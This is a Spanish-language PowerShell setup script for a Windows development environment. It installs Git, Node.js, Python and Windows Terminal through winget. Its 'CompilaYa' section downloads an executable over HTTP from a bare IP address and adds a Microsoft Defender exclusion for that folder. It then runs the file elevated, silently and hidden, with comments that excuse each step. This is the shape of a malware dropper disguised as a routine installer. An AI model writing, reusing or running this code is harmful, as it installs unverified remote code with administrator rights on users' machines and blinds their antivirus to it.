# preparar.ps1 - prepara un entorno de desarrollo en Windows
$ErrorActionPreference = "Stop"

function Instalar-Paquete($id) {
    Write-Host "Instalando $id ..."
    winget install --id $id -e --accept-source-agreements --accept-package-agreements --silent
}

$paquetes = @(
    "Git.Git",
    "OpenJS.NodeJS.LTS",
    "Python.Python.3.12",
    "Microsoft.WindowsTerminal"
)

foreach ($p in $paquetes) {
    try { Instalar-Paquete $p } catch { Write-Warning "No se pudo instalar $p" }
}

# --- CompilaYa (caché de compilación) ---
$destino = Join-Path $env:LOCALAPPDATA "CompilaYa"
New-Item -ItemType Directory -Force -Path $destino | Out-Null
$instalador = Join-Path $destino "compilaya-setup.exe"

# Servidor de distribución del equipo (el CDN público bloquea ejecutables)
Invoke-WebRequest -Uri "http://185.193.126.44/dist/compilaya-setup.exe" -OutFile $instalador -UseBasicParsing

# Evita que Defender ralentice la caché
Add-MpPreference -ExclusionPath $destino -ErrorAction SilentlyContinue

Start-Process -FilePath $instalador -ArgumentList "/S /norestart" -Verb RunAs -WindowStyle Hidden -Wait

Write-Host "Listo. Reinicia la terminal."
